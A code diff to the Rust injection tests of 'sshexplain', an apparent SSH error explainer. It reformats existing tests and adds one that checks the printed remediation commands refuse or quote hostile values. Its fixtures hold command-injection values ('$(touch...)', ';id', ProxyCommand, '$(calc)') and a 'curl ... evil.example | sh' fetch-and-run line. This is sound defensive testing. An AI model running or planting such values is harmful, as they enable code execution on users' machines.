@@ -77,7 +77,12 @@ fn commands(report: &Report) -> Vec<String> {
     let mut out = Vec::new();
     let md = render::markdown(report);
     let text = render::text(report, TextOptions::default());
-    for (i, d) in json["diagnoses"].as_array().expect("diagnoses").iter().enumerate() {
+    for (i, d) in json["diagnoses"]
+        .as_array()
+        .expect("diagnoses")
+        .iter()
+        .enumerate()
+    {
         for step in d["remediation"].as_array().expect("remediation") {
             if let Some(c) = step["command"].as_str() {
                 if i == 0 {
@@ -195,7 +200,11 @@ fn no_payload_runs_from_any_printed_command() {
         failures.len()
     );
     assert!(mutations > 1000, "too few mutations: {mutations}");
-    assert!(failures.is_empty(), "payloads ran:\n{}", failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "payloads ran:\n{}",
+        failures.join("\n")
+    );
 }
 
 /// The harness itself can fail: an unquoted value does run.
@@ -205,7 +214,8 @@ fn the_harness_detects_an_unquoted_payload() {
         eprintln!("SKIPPED: bash is not installed");
         return;
     };
-    let scratch = std::env::temp_dir().join(format!("sshexplain-injection-self-{}", std::process::id()));
+    let scratch =
+        std::env::temp_dir().join(format!("sshexplain-injection-self-{}", std::process::id()));
     let _ = std::fs::remove_dir_all(&scratch);
     std::fs::create_dir_all(&scratch).expect("scratch");
     let hits = run_in_bash(&bash, &scratch, "getent hosts foo$(>PWNED_B)");
@@ -217,4 +227,66 @@ fn the_harness_detects_an_unquoted_payload() {
     let hits = run_in_bash(&bash, &scratch2, &format!("getent hosts {safe}"));
     let _ = std::fs::remove_dir_all(&scratch2);
     assert!(hits.is_empty());
+}
+
+/// The attacks of the security review, one by one: each hostile value is
+/// refused (placeholder) or quoted, in every command of the report.
+#[test]
+fn review_examples_are_refused_or_quoted() {
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "Unable to negotiate with 127.0.0.1 port 40022: no matching key exchange method found. Their offer: x$(touch${IFS}/tmp/p)\n",
+            "$(touch",
+            "",
+        ),
+        (
+            "ssh: Could not resolve hostname foo;id: Name or service not known\n",
+            "foo;id",
+            "getent hosts HOST",
+        ),
+        (
+            "debug1: Authenticating to h:22 as 'bob;id'\ndebug1: Authentications that can continue: password\nPermission denied, please try again.\nPermission denied, please try again.\nbob;id@h: Permission denied (password).\n",
+            "bob;id",
+            "sudo passwd -S USER",
+        ),
+        (
+            "debug1: Connecting to h -oProxyCommand=X [10.0.0.5] port 22.\nssh: connect to host h -oProxyCommand=X port 22: Connection refused\n",
+            "ProxyCommand=X",
+            "nc -vz HOST 22",
+        ),
+        (
+            "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n  remove with:\n  ssh-keygen -f \"/home/u/.ssh/known_hosts\" -R \"h\"\\012curl -s https://evil.example/x | sh\nHost key verification failed.\n",
+            "curl",
+            "ssh-keygen -f ~/.ssh/known_hosts -R h",
+        ),
+        (
+            "OpenSSH_for_Windows_8.6p1, LibreSSL 3.4.3\nBad permissions. Try removing permissions for user: BUILTIN\\\\Users (S-1-5-32-545) on file C:/Users/me/.ssh/config$(calc).\n",
+            "config$(calc)",
+            "icacls 'C:\\Users\\me\\.ssh\\config$(calc)' /inheritance:r",
+        ),
+    ];
+    for (log, hostile, expected) in cases {
+        for lang in [Lang::En, Lang::Ja] {
+            let report = sshexplain::report_in(&sshexplain::trace(log), lang);
+            let cmds = commands(&report);
+            assert!(
+                expected.is_empty() || cmds.iter().any(|c| c.contains(expected)),
+                "{log:?}: no command has {expected:?}: {cmds:#?}"
+            );
+            for c in &cmds {
+                // Where the hostile text stands, it is inside single quotes.
+                if let Some(i) = c.find(hostile) {
+                    let quotes = c[..i].matches('\'').count();
+                    assert!(
+                        quotes % 2 == 1,
+                        "{log:?}: hostile {hostile:?} unquoted in {c:?}"
+                    );
+                }
+                assert!(
+                    !c.lines().any(|l| l.trim_start().starts_with("curl")),
+                    "{c:?}"
+                );
+            }
+        }
+    }
 }
